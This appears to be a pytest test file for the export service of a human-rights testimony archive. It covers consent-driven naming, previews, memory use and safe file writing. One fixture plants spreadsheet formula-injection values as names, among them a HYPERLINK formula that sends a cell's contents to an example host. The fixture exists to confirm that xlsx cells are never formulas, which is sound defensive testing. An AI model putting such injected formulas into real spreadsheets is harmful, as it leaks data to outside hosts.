"""The hand-over service in process: what the preview promises is what the file holds, the
preview writes and records nothing, and a person recorded only as an alleged perpetrator still
has their row (the persons registry need not know them); an xlsx whose cells a spreadsheet
could run as formulas, and the table by act."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import stat
import tempfile
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeVar

import openpyxl
import pytest

from app.services import share_reading
from app.services.share import BadShare, preview, share, shares
from app.services.workspace import Workspace
from app.storage.vault import Vault
from tests.factories import day, minimal_testimony

T = TypeVar("T")


def _testimony(*scopes: str) -> dict[str, Any]:
    names = [{"value": "Hanna Baravik", "script": "Latn", "kind": "original"}]
    judge = [{"value": "Viktar Ivanou", "script": "Latn", "kind": "original"}]
    return minimal_testimony(
        consent={"given_by": "p1", "date": day("2024-10-03"), "method": "oral",
                 "scopes": list(scopes)},
        persons=[{"ref": "p1", "roles": ["informant", "victim"], "names": names},
                 {"ref": "p2", "roles": ["victim"], "case_code": "BY-7"},
                 {"ref": "p9", "roles": ["alleged_perpetrator"], "names": judge}],
    )  # fmt: skip


def test_the_preview_matches_the_file_and_leaves_no_trace(vault: Vault, tmp_path: Path) -> None:
    Workspace(vault).add_all(
        [_testimony("legal_proceedings", "third_party_info"), _testimony("internal_documentation")]
    )
    ahead = preview(vault, "legal_proceedings")
    assert (ahead.testimonies, ahead.named, ahead.pseudonymised, ahead.excluded) == (1, 2, 1, 0)
    assert ahead.withheld == {"the informant did not consent to this use": 1}
    assert shares(vault) == []

    out = tmp_path / "court.csv"
    done = share(vault, "legal_proceedings", "csv", out)
    assert (done.testimonies, done.named, done.pseudonymised) == (1, 2, 1)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert sorted((row["name"], row["case_code"], row["shown_as"]) for row in rows) == [
        ("", "BY-7", "case_code"),
        ("Hanna Baravik", "", "named"),
        ("Viktar Ivanou", "", "named"),  # the judge: named for a court
    ]
    assert [entry.scope for entry in shares(vault)] == ["legal_proceedings"]


def _act_testimony() -> dict[str, Any]:
    """Everyone named with consent, so free text leaves; words a spreadsheet would run."""
    named = [
        {"value": '=HYPERLINK("https://example.org/?"&B2)', "script": "Latn", "kind": "original"}
    ]
    guard = [{"value": "@Ivanou", "script": "Latn", "kind": "original"}]
    return minimal_testimony(
        consent={"given_by": "p1", "date": day("2024-10-03"), "method": "oral",
                 "scopes": ["legal_proceedings"]},
        persons=[{"ref": "p1", "roles": ["informant", "victim"], "names": named},
                 {"ref": "p9", "roles": ["alleged_perpetrator"], "names": guard}],
        ill_treatment_acts=[{"ref": "a1", "victim": "p1", "method": "beating",
                             "from": day("2023-04-02"),
                             "place": {"facility": "navapolatsk_ik1"},
                             "perpetrators": [{"person": "p9", "involvement": "carried_out"}],
                             "description": "+1 rib broken; -cold cell"}],
    )  # fmt: skip


def _cells(path: Path) -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    return [[cell for cell in row] for row in book.active.iter_rows()]


def test_xlsx_cells_are_text_never_formulas(
    vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    Workspace(vault).add_all([_act_testimony(), _testimony("internal_documentation")])
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where a temp file would go

    out = tmp_path / "court.xlsx"
    done = share(vault, "legal_proceedings", "xlsx", out, lang="be")
    assert done.testimonies == 1
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert list(scratch.iterdir()) == []  # no name went through a temp file
    rows = _cells(out)
    header = [cell.value for cell in rows[0]]
    table = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in rows[1:]]
    victim = next(row for row in table if row["ref"] == "p1")
    assert victim["name"] == '=HYPERLINK("https://example.org/?"&B2)'
    assert victim["shown_as"] == "named"
    assert victim["ill_treatment"] == "beating"
    assert victim["ill_treatment_label"] not in ("", "beating")  # the Belarusian label
    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert all(b"<f>" not in book.read(name) for name in sheets)  # no formula anywhere


def test_by_acts_one_row_per_act_under_consent(vault: Vault, tmp_path: Path) -> None:
    withheld = _act_testimony()
    withheld["consent"]["scopes"] = ["internal_documentation"]
    withheld["persons"][0]["names"] = [{"value": "Hanna Baravik", "script": "Latn",
                                        "kind": "original"}]  # fmt: skip
    Workspace(vault).add_all([_act_testimony(), withheld])

    out = tmp_path / "acts.csv"
    done = share(vault, "legal_proceedings", "csv", out, by="acts")
    assert done.testimonies == 1
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    (act,) = rows
    assert (act["kind"], act["act"], act["what"], act["from"]) == (
        "ill_treatment_acts", "a1", "beating", "2023-04-02"
    )  # fmt: skip
    assert act["who"].startswith("=HYPERLINK")
    assert act["facility"] == "navapolatsk_ik1"
    assert act["facility_label"] not in ("", "navapolatsk_ik1")
    assert act["perpetrators"] == "@Ivanou (carried_out)"
    assert act["description"] == "+1 rib broken; -cold cell"
    assert "Hanna" not in text

    sheet = tmp_path / "acts.xlsx"
    share(vault, "legal_proceedings", "xlsx", sheet, by="acts")
    rows = _cells(sheet)
    assert [cell.value for cell in rows[1]][:3] == [act["testimony"], "a1", "ill_treatment_acts"]

    with pytest.raises(BadShare, match="one row per act"):
        share(vault, "legal_proceedings", "json", tmp_path / "acts.json", by="acts")
    assert not (tmp_path / "acts.json").exists()
    assert len(shares(vault)) == 2  # the refused one recorded nothing


def test_the_preview_says_why_people_are_not_named(vault: Vault) -> None:
    Workspace(vault).add_all([_testimony("share_ngos", "third_party_info")])
    ahead = preview(vault, "share_ngos")
    assert ahead.why == {
        ("case_code", "did not consent for themselves"): 1,
        ("case_code", "alleged perpetrator"): 1,
    }


def test_with_chosen_persons_the_counts_are_theirs(vault: Vault, tmp_path: Path) -> None:
    Workspace(vault).add_all([_testimony("legal_proceedings", "third_party_info")])
    victim = next(e.person for e in _entries(vault) if e.ref == "p2")
    ahead = preview(vault, "legal_proceedings", person_ids=[victim])
    assert (ahead.testimonies, ahead.named, ahead.pseudonymised) == (1, 0, 1)
    assert ahead.why == {("case_code", "did not consent for themselves"): 1}

    table = share(vault, "legal_proceedings", "csv", tmp_path / "one.csv", person_ids=[victim])
    assert (table.named, table.pseudonymised) == (0, 1)  # the one row the file holds
    whole = share(vault, "legal_proceedings", "json", tmp_path / "one.json", person_ids=[victim])
    assert (whole.named, whole.pseudonymised) == (2, 1)  # the testimony leaves whole


def _entries(vault: Vault) -> list[Any]:
    from app.storage import persons

    with vault.reading() as session:
        return list(persons.entries(session))


def test_a_case_code_never_carries_the_archive_id_of_a_named_row(
    vault: Vault, tmp_path: Path
) -> None:
    # Hanna consented in one testimony and is named there; in another her informant did not
    # consent for her, so she leaves as a case code. The registry knows both are one person:
    # printing its id beside the case code would tie the case code to her name.
    named = _testimony("legal_proceedings", "third_party_info")
    coded = minimal_testimony(
        consent={"given_by": "p1", "date": day("2024-10-03"), "method": "oral",
                 "scopes": ["legal_proceedings"]},
        persons=[{"ref": "p1", "roles": ["informant"],
                  "names": [{"value": "Mikola Baravik", "script": "Latn", "kind": "original"}]},
                 {"ref": "p2", "roles": ["victim"], "case_code": "BY-9",
                  "names": [{"value": "Hanna Baravik", "script": "Latn", "kind": "original"}]}],
    )  # fmt: skip
    Workspace(vault).add_all([named, coded])
    for fmt, by in (("csv", "persons"), ("csv", "acts"), ("xlsx", "persons")):
        out = tmp_path / f"court-{by}.{fmt}"
        share(vault, "legal_proceedings", fmt, out, by=by)
        if fmt == "xlsx":
            header, *rows = [[c.value or "" for c in row] for row in _cells(out)]
            table = [dict(zip(header, row, strict=True)) for row in rows]
        else:
            table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        coded_rows = [r for r in table if r.get("shown_as") == "case_code"]
        named_ids = {r["person_id"] for r in table if r.get("shown_as") == "named"}
        assert all(r["person_id"] == "" for r in coded_rows), (fmt, by)
        if by == "persons":
            assert coded_rows, "the case-coded person has a row"
            assert named_ids - {""}, "named rows keep their archive id"


def _shaped(scopes: list[str], *others: dict[str, Any], **consent: Any) -> dict[str, Any]:
    informant = {
        "ref": "p1",
        "roles": ["informant", "victim"],
        "names": [{"value": "Hanna Baravik", "script": "Latn", "kind": "original"}],
    }
    return minimal_testimony(
        consent={"given_by": "p1", "date": day("2024-10-03"), "method": "oral",
                 "scopes": scopes, **consent},
        persons=[informant, *others],
    )  # fmt: skip


def _other(**more: Any) -> dict[str, Any]:
    names = [{"value": "Ales Kowalczyk", "script": "Latn", "kind": "original"}]
    return {"ref": "p2", "roles": ["victim"], "names": names, **more}


def _own(*scopes: str, **more: Any) -> dict[str, Any]:
    return {"person": "p2", "date": day("2024-10-03"), "method": "oral", "scopes": list(scopes),
            **more}  # fmt: skip


WITHDRAWN = {"withdrawal": {"date": day("2025-01-01")}}
# Every shape of consent a hand-over decides on.
CONSENT_SHAPES = [
    _shaped(["share_un_wgad"]),
    _shaped(["share_un_mechanisms", "third_party_info"], _other()),  # the umbrella
    _shaped(["share_un_sr_belarus", "share_un_gie_belarus"], _other()),
    _shaped(["share_un_wgad", "legal_proceedings"], _other(), **WITHDRAWN),
    _shaped(["internal_documentation"], _other(), own=[_own("share_un_wgad", "share_iapb")]),
    _shaped(["legal_proceedings", "share_iapb"], _other(),
            own=[_own("legal_proceedings", **WITHDRAWN)]),
    _shaped(["share_ngos", "anonymised_public_reporting", "third_party_info"],
            _other(sensitive=True), own=[_own("share_ngos")]),
    _shaped(["named_publication", "share_organisation"], _other(sensitive=True)),
    _shaped(["share_organisation"], **WITHDRAWN),
]  # fmt: skip


def _by_the_full_rule(vault: Vault, scope: str) -> tuple[int, dict[str, int], set[str]]:
    """What every record judged by the full rule gives: leaving, withheld, not consenting."""
    from app.domain.consent import RULES
    from app.domain.handover import NO_CONSENT, Withheld, hand_over
    from app.storage import testimonies

    leaving, withheld, refused = 0, dict[str, int](), set()
    with vault.reading() as session:
        for summary in testimonies.summaries(session):
            outcome = hand_over(testimonies.get(session, summary.id).document, RULES[scope], "x")
            if not isinstance(outcome, Withheld):
                leaving += 1
                continue
            withheld[outcome.reason] = withheld.get(outcome.reason, 0) + 1
            if outcome.reason == NO_CONSENT:
                refused.add(summary.id)
    return leaving, withheld, refused


def test_the_consent_facets_skip_only_what_the_full_rule_withholds(vault: Vault) -> None:
    from app.domain.consent import RULES
    from app.services.share import SCOPES
    from app.services.share_reading import surely_withheld

    Workspace(vault).add_all(CONSENT_SHAPES)
    skipped_somewhere = False
    for scope in SCOPES:
        leaving, withheld, refused = _by_the_full_rule(vault, scope)
        with vault.reading() as session:
            skipped = surely_withheld(session, RULES[scope].accepts)
        assert skipped <= refused, scope  # never one the full rule would let (partly) leave
        skipped_somewhere |= bool(skipped)
        ahead = preview(vault, scope)
        assert (ahead.testimonies, ahead.withheld) == (leaving, withheld), scope
    assert skipped_somewhere, "the facets spared reading some record"
    # A withdrawn consent has no scope facet: such a record is read, and said to be withdrawn.
    assert preview(vault, "share_un_wgad").withheld["the informant withdrew consent"] == 2


def test_an_index_of_other_rules_is_not_trusted(vault: Vault) -> None:
    from app.domain.consent import RULES
    from app.services.share_reading import surely_withheld
    from app.storage.models import VaultMeta
    from app.storage.search import INDEX_VERSION_KEY

    Workspace(vault).add_all(CONSENT_SHAPES)
    before = preview(vault, "share_iapb")
    with vault.transaction() as session:
        marker = session.get(VaultMeta, INDEX_VERSION_KEY)
        assert marker is not None
        marker.value = "0"  # written by older rules: rebuilt at the next unlock
    with vault.reading() as session:
        assert surely_withheld(session, RULES["share_iapb"].accepts) == frozenset()
    after = preview(vault, "share_iapb")
    assert (after.testimonies, after.withheld) == (before.testimonies, before.withheld)


def _forty_long_interviews(vault: Vault, monkeypatch: pytest.MonkeyPatch) -> None:
    """Forty interviews of ~200 KB of narrative each (8 MB in all), which consent lets leave
    whole, read five at a time (the records are read 500 at a time; forty would all be one
    such chunk)."""
    monkeypatch.setattr(share_reading, "_CHUNK", 5)
    story = "Мяне трымалі ў ізалятары без лекаў, маці не ведала, дзе я. " * 1800
    interviews = []
    for number in range(40):
        testimony = _testimony("legal_proceedings")
        testimony["persons"] = testimony["persons"][:1]  # everyone named: the narrative leaves
        testimony["interview"]["narrative"] = {"text": f"{number} {story}", "language": "be"}
        interviews.append(testimony)
    Workspace(vault).add_all(interviews)


def _peak(work: Callable[[], T]) -> tuple[T, int]:
    """What ``work`` returns, and how much more memory Python held at its peak than before."""
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        result = work()
        return result, tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()


def test_a_preview_holds_one_shaped_testimony_at_a_time(
    vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A preview counts each testimony as consent shapes it and lets the shaped copy go: it
    held all of them until the end, 1 GB at 10,000 testimonies, and the garbage collector's
    passes over that heap made a preview of 100,000 take 3.7 times the reading of the records.
    Its memory peak stays within a few interviews, not the eight MB of all forty."""
    _forty_long_interviews(vault, monkeypatch)
    ahead, peak = _peak(lambda: preview(vault, "legal_proceedings"))
    assert (ahead.testimonies, ahead.named) == (40, 40)
    assert peak < 3 * 1024 * 1024, f"the preview took {peak / 1024 / 1024:.1f} MiB more at its peak"


@pytest.mark.parametrize("fmt", ["json", "csv", "uwazi"])
def test_a_hand_over_to_a_file_writes_one_shaped_testimony_at_a_time(
    vault: Vault, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, fmt: str
) -> None:
    """A hand-over of the whole archive to a file held every shaped testimony until it wrote
    them all: 1.09 GB at 10,000 testimonies, about 10 GB at 100,000, more than a coordinator's
    laptop has. Each is now written as it is shaped: forty long interviews (8 MB of narrative
    leave in the JSON) are written within a few of them and the file's 1 MiB write buffer
    (3.4 MiB; 29 MiB for the JSON and 10 MiB for the tables when they were held), and what was
    written is whole."""
    _forty_long_interviews(vault, monkeypatch)
    out = tmp_path / f"court.{fmt}"
    done, peak = _peak(lambda: share(vault, "legal_proceedings", fmt, out))
    assert (done.testimonies, done.named) == (40, 40)
    assert peak < 5 * 1024 * 1024, f"the hand-over took {peak / 1024 / 1024:.1f} MiB at its peak"
    data = out.read_bytes()
    assert shares(vault)[-1].sha256 == hashlib.sha256(data).hexdigest()  # the audit trail's
    if fmt == "json":
        handed = json.loads(data)["testimonies"]
        narratives = sorted(t["interview"]["narrative"]["text"].split()[0] for t in handed)
        assert narratives == sorted(str(number) for number in range(40))
    else:
        assert len(list(csv.DictReader(io.StringIO(data.decode())))) == 40


def test_the_json_is_the_whole_hand_over_indented_with_sorted_keys(
    vault: Vault, tmp_path: Path
) -> None:
    """Written a testimony at a time, the JSON is still one document: what `json.dumps` makes
    of the whole hand-over (two spaces, sorted keys, UTF-8 as it is), including a narrative
    with a line separator (U+2028) that a line-by-line indent would cut, and no testimony."""
    story = minimal_testimony(consent=_testimony("legal_proceedings")["consent"],
                              persons=_testimony()["persons"][:1])  # fmt: skip
    story["interview"]["narrative"] = {"text": "Першы радок\u2028другі\nтрэці", "language": "be"}
    Workspace(vault).add_all([story, _testimony("legal_proceedings")])
    out = tmp_path / "court.json"
    share(vault, "legal_proceedings", "json", out)
    body = json.loads(out.read_bytes())
    assert len(body["testimonies"]) == 2
    expected = json.dumps(body, ensure_ascii=False, indent=2, sort_keys=True) + "\n"
    assert out.read_text(encoding="utf-8") == expected

    empty = tmp_path / "nobody.json"
    assert share(vault, "share_iapb", "json", empty).testimonies == 0
    assert (
        empty.read_text(encoding="utf-8") == '{\n  "scope": "share_iapb",\n  "testimonies": []\n}\n'
    )


def test_a_hand_over_killed_half_way_leaves_nothing_once_made_again(
    vault: Vault, tmp_path: Path
) -> None:
    """The file is written beside its name (hidden, mode 0600) and renamed when whole. What a
    killed hand-over left there is removed by the next hand-over to the same file; another
    file's is not touched."""
    Workspace(vault).add_all([_testimony("legal_proceedings")])
    folder = tmp_path / "handed"
    folder.mkdir()
    out = folder / "court.csv"
    left = folder / ".court.csv.k1ll3d00.tmp"
    left.write_text("testimony,person_id\n…half a row", encoding="utf-8")
    other = folder / ".other.csv.k1ll3d00.tmp"
    other.write_text("not ours to remove", encoding="utf-8")
    share(vault, "legal_proceedings", "csv", out)
    assert sorted(p.name for p in folder.iterdir()) == [".other.csv.k1ll3d00.tmp", "court.csv"]
